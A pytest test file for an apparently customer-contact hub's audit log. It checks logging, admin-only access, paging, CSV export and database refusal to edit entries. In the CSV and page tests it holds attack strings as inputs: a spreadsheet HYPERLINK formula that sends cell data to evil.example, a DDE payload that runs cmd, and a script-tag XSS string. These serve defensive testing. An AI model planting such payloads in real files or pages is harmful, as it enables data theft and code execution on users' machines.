"""The audit trail on a real hub: what people do appears with who, from where and what (never
a password or a message's text); only admins browse and export it; the database refuses to
change or delete an entry, on SQLite and PostgreSQL; the CLI adds users and exports."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from hub import cli
from hub.audit import Actor, AuditEntry, AuditQuery
from hub.model import Role
from hub.storage.audit import SqlAuditStore
from hub.storage.migrate import upgrade
from hub.storage.sql import SqlStore, make_engine
from tests.functional.conftest import PASSWORD, Running, csrf_headers, serve, settings_for
from tests.functional.test_chat_flow import agent, available, visitor

LOOPBACK = "127.0.0.1"


async def try_sign_in(running: Running, email: str, password: str) -> int:
    async with aiohttp.ClientSession() as http:
        resp = await http.post(
            f"{running.base}/api/v1/session", json={"email": email, "password": password}
        )
        return resp.status


async def admin(running: Running, email: str = "ada@example.com") -> str:
    await running.add_user(email, "Ada Admin", Role.ADMIN)
    return await running.sign_in(email)


async def entries(running: Running, token: str, query: str = "") -> list[dict[str, Any]]:
    status, body = await running.get(f"/api/v1/admin/audit?limit=500{query}", token)
    assert status == 200, body
    return list(body["entries"])


def by_action(found: list[dict[str, Any]], action: str) -> list[dict[str, Any]]:
    return [e for e in found if e["action"] == action]


async def test_audit_records_each_agent_action_with_actor_address_and_no_text(
    tmp_path: Path,
) -> None:
    async with serve(settings_for(tmp_path, wrap_up_s=300)) as running:
        assert await try_sign_in(running, "alice@example.com", "not her password") == 401
        bob = await agent(running, "bob@example.com", "Bob Agent")
        alice = await agent(running, "alice@example.com", "Alice Agent")
        users = {u.email: u.user_id for u in await running.hub.store.users()}
        alice_id, bob_id = users["alice@example.com"], users["bob@example.com"]
        await available(bob)  # bob has waited longest, so he is offered first
        await available(alice)
        carol, _ = await visitor(running)
        assert (await carol.call("message", {"body": "My card number is 4111 1111"}))["ok"]
        offer = await bob.next("offer")
        iid = offer["interaction_id"]
        assert (await bob.call("decline", {"interaction_id": iid}))["ok"]
        await alice.next("offer")
        assert (await alice.call("accept", {"interaction_id": iid}))["ok"]
        reply = await alice.call("send_message", {"interaction_id": iid, "body": "Private reply"})
        assert reply["ok"], reply
        note = await alice.call("add_note", {"interaction_id": iid, "body": "Gold customer"})
        assert note["ok"], note
        ack = await alice.call("transfer", {"interaction_id": iid, "agent_id": bob_id})
        assert ack["ok"], ack
        await bob.next("offer")
        assert (await bob.call("accept", {"interaction_id": iid}))["ok"]
        assert (await bob.call("close", {"interaction_id": iid}))["ok"]
        assert (await bob.call("end_wrap_up", {"interaction_id": iid}))["ok"]
        set_away = await alice.call("set_state", {"state": "away"})
        assert set_away["ok"], set_away
        ada = await admin(running)
        async with aiohttp.ClientSession(cookies={"hub_session": ada}) as http:
            resp = await http.post(
                f"{running.base}/api/v1/admin/routing/reload",
                headers=csrf_headers(running.base, ada),
            )
            assert resp.status == 200
        for client in (alice, bob, carol):
            await client.close()
        alice_token = await running.sign_in("alice@example.com")
        async with aiohttp.ClientSession(cookies={"hub_session": alice_token}) as http:
            signed_out = await http.delete(
                f"{running.base}/api/v1/session", headers=csrf_headers(running.base, alice_token)
            )
            assert signed_out.status == 204

        found = await entries(running, ada)

    # Newest first, every one from this machine's address.
    assert [e["entry_id"] for e in found] == sorted((e["entry_id"] for e in found), reverse=True)
    assert {e["actor"]["address"] for e in found} == {LOOPBACK}
    failed = by_action(found, "signin.failed")
    assert [f["actor"] for f in failed] == [
        {"kind": "user", "actor_id": None, "name": "alice@example.com", "address": LOOPBACK}
    ]

    def did(user_id: int) -> list[tuple[str, str | None]]:
        return [
            (e["action"], e["target"]["id"] if e["target"] else None)
            for e in reversed(found)
            if e["actor"]["actor_id"] == user_id
        ]

    i = str(iid)
    assert did(alice_id) == [
        ("signin.succeeded", str(alice_id)),
        ("agent.state_set", str(alice_id)),
        ("offer.accepted", i),
        ("reply.sent", i),
        ("note.added", i),
        ("interaction.transferred", i),
        ("agent.state_set", str(alice_id)),
        ("signin.succeeded", str(alice_id)),
        ("signout", str(alice_id)),
    ]
    assert did(bob_id) == [
        ("signin.succeeded", str(bob_id)),
        ("agent.state_set", str(bob_id)),
        ("offer.declined", i),
        ("offer.accepted", i),
        ("interaction.closed", i),
        ("wrap_up.ended", i),
    ]
    (sent,) = by_action(found, "reply.sent")
    assert sent["details"] == {"message_id": reply["message"]["message_id"], "body_bytes": 13}
    (noted,) = by_action(found, "note.added")
    assert noted["details"] == {"note_id": note["note"]["note_id"], "body_bytes": 13}
    (moved,) = by_action(found, "interaction.transferred")
    assert moved["details"] == {"to_queue": None, "to_agent_id": bob_id}
    assert [e["details"] for e in by_action(found, "agent.state_set")] == [
        {"state": "away", "reason": None},
        {"state": "available", "reason": None},
        {"state": "available", "reason": None},
    ]
    (reloaded,) = by_action(found, "rules.reloaded")
    assert reloaded["actor"]["name"] == "ada@example.com" and reloaded["details"] == {"rules": 0}
    everything = json.dumps(found)
    for secret in (PASSWORD, "not her password", "4111", "Private reply", "Gold customer"):
        assert secret not in everything


async def test_audit_lockout_is_recorded_once_then_each_refusal(tmp_path: Path) -> None:
    settings = settings_for(tmp_path, HUB_SECURITY__SIGNIN_FAILURES_PER_ACCOUNT="2")
    async with serve(settings) as running:
        await running.add_user("alice@example.com", "Alice")
        for _ in range(2):
            assert await try_sign_in(running, "alice@example.com", "wrong password") == 401
        assert await try_sign_in(running, "alice@example.com", PASSWORD) == 429
        found = await entries(running, await admin(running), "&actor=alice")
    assert [(e["action"], e["details"]) for e in reversed(found)] == [
        ("signin.failed", {}),
        ("signin.failed", {}),
        ("signin.locked", {"locked": ["account"]}),
        ("signin.refused", {"reason": "locked out"}),
    ]


async def test_audit_routes_and_page_are_for_admins_only(tmp_path: Path) -> None:
    async with serve(settings_for(tmp_path)) as running:
        await running.add_user("alice@example.com", "Alice", Role.AGENT)
        await running.add_user("sue@example.com", "Sue", Role.SUPERVISOR)
        agent_token = await running.sign_in("alice@example.com")
        supervisor_token = await running.sign_in("sue@example.com")
        ada = await admin(running)
        for path in ("/api/v1/admin/audit", "/api/v1/admin/audit.csv"):
            assert (await running.get(path))[0] == 401
            for token in (agent_token, supervisor_token):
                status, body = await running.get(path, token)
                assert status == 403 and body["error"]["code"] == "forbidden", (path, body)
            assert (await running.get(path, ada))[0] == 200
        page = "/console/admin/audit"
        status, _ = await running.get(page)
        assert status == 302
        for token in (agent_token, supervisor_token):
            assert (await running.get(page, token))[0] == 403
        assert (await running.get(page, ada))[0] == 200
        _, doc = await running.get("/api/v1/openapi.json")
        assert {"/api/v1/admin/audit", "/api/v1/admin/audit.csv"} <= set(doc["paths"])
        # Nothing changes or removes an entry through the product.
        async with aiohttp.ClientSession(cookies={"hub_session": ada}) as http:
            for method in ("POST", "PUT", "PATCH", "DELETE"):
                resp = await http.request(method, f"{running.base}/api/v1/admin/audit")
                assert resp.status == 405, method


async def test_audit_pages_through_with_a_cursor_and_filters(tmp_path: Path) -> None:
    async with serve(settings_for(tmp_path)) as running:
        ada = await admin(running)
        for n in range(7):
            assert await try_sign_in(running, f"guess{n}@example.com", "wrong password") == 401
        seen: list[str] = []
        cursor = ""
        while True:
            status, body = await running.get(
                f"/api/v1/admin/audit?action=signin.failed&limit=3&cursor={cursor}", ada
            )
            assert status == 200, body
            seen += [e["actor"]["name"] for e in body["entries"]]
            cursor = body["next_cursor"]
            if cursor is None:
                break
        assert seen == [f"guess{n}@example.com" for n in reversed(range(7))]
        family = await entries(running, ada, "&action=signin")
        assert {e["action"] for e in family} == {"signin.failed", "signin.succeeded"}
        assert await entries(running, ada, "&since=2999-01-01") == []
        status, body = await running.get("/api/v1/admin/audit?since=soon", ada)
        assert status == 400 and "since must be an ISO 8601 time" in body["error"]["message"]


async def test_audit_csv_export_is_spreadsheet_safe_and_itself_audited(tmp_path: Path) -> None:
    async with serve(settings_for(tmp_path)) as running:
        ada = await admin(running)
        evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        assert await try_sign_in(running, evil, "wrong password") in (400, 401)
        assert await try_sign_in(running, "@SUM(1+1)*cmd|' /C calc'!A0", "x" * 12) == 401
        async with aiohttp.ClientSession(cookies={"hub_session": ada}) as http:
            resp = await http.get(f"{running.base}/api/v1/admin/audit.csv?action=signin.failed")
            assert resp.status == 200
            assert resp.headers["Content-Disposition"] == 'attachment; filename="audit.csv"'
            assert resp.content_type == "text/csv"
            rows = list(csv.DictReader(io.StringIO(await resp.text())))
        names = [row["actor_name"] for row in rows]
        assert names == ["'@sum(1+1)*cmd|' /c calc'!a0", "'" + evil.lower()]
        for row in rows:
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
        exported = by_action(await entries(running, ada), "audit.exported")
        assert [(e["actor"]["name"], e["details"]["rows"]) for e in exported] == [
            ("ada@example.com", 2)
        ]
        assert exported[0]["details"]["action"] == "signin.failed"


async def test_audit_page_shows_entries_as_text_with_no_script(tmp_path: Path) -> None:
    async with serve(settings_for(tmp_path)) as running:
        ada = await admin(running)
        xss = "<script>alert(1)</script>@example.com"
        assert await try_sign_in(running, xss, "wrong password") == 401
        status, html = await running.get("/console/admin/audit?actor=script", ada)
        assert status == 200
        assert "&lt;script&gt;alert(1)&lt;/script&gt;@example.com" in html
        assert "<script" not in html.lower()
        assert "signin.failed" in html and "Download CSV" in html
        status, html = await running.get("/console/admin/audit?until=tomorrow", ada)
        assert status == 400 and "until must be an ISO 8601 time" in html


async def test_audit_entries_outlive_a_restart(tmp_path: Path) -> None:
    settings = settings_for(tmp_path)
    async with serve(settings) as running:
        await running.add_user("alice@example.com", "Alice")
        await running.sign_in("alice@example.com")  # recorded, then the hub stops at once
    async with serve(settings) as running:
        found = await entries(running, await admin(running), "&actor=alice")
    assert [e["action"] for e in found] == ["signin.succeeded"]


@pytest.mark.parametrize(
    "statement", ["UPDATE audit_log SET action = 'x'", "DELETE FROM audit_log"]
)
async def test_audit_log_database_refuses_update_and_delete(
    database_url: str, statement: str
) -> None:
    store = SqlStore(make_engine(database_url))
    try:
        await upgrade(store.engine)
        audit_store = SqlAuditStore(store)
        entry = AuditEntry.of(datetime.now(UTC), Actor.system("test"), "signout")
        await audit_store.append_audit([entry])
        with pytest.raises(DBAPIError, match="append-only"):
            async with store.engine.begin() as conn:
                await conn.execute(text(statement))
        if store.engine.dialect.name == "postgresql":
            with pytest.raises(DBAPIError, match="append-only"):
                async with store.engine.begin() as conn:
                    await conn.execute(text("TRUNCATE audit_log"))
        kept = await audit_store.audit_entries(AuditQuery())
        assert [(e.action, e.actor.name) for e in kept] == [("signout", "test")]
    finally:
        await store.close()


def test_audit_cli_user_add_and_export(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database = f"sqlite+aiosqlite:///{tmp_path / 'hub.db'}"
    monkeypatch.setenv("HUB_DATABASE__URL", database)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.stdin", io.StringIO(PASSWORD + "\n"))
    args = ["user", "add", "--role", "agent", "--email", "eve@example.com", "--name", "Eve"]
    assert cli.main([*args, "--password-stdin"]) == 0
    out = tmp_path / "audit.jsonl"
    assert cli.main(["audit", "export", "--format", "jsonl", "--output", str(out)]) == 0
    (added,) = [json.loads(line) for line in out.read_text().splitlines()]
    assert added["action"] == "user.added"
    assert added["actor"]["kind"] == "system"
    assert added["actor"]["name"].startswith("contact-hub user add (os user ")
    assert added["details"] == {"email": "eve@example.com", "role": "agent"}
    assert PASSWORD not in out.read_text()
    capsys.readouterr()
    assert cli.main(["audit", "export", "--since", "2000-01-01", "--action", "audit"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0][6] == "action" and [r[6] for r in rows[1:]] == ["audit.exported"]
    assert json.loads(rows[1][9])["format"] == "jsonl"
    assert cli.main(["audit", "export", "--since", "last week"]) == 1
    assert "--since must be an ISO 8601 time" in capsys.readouterr().err
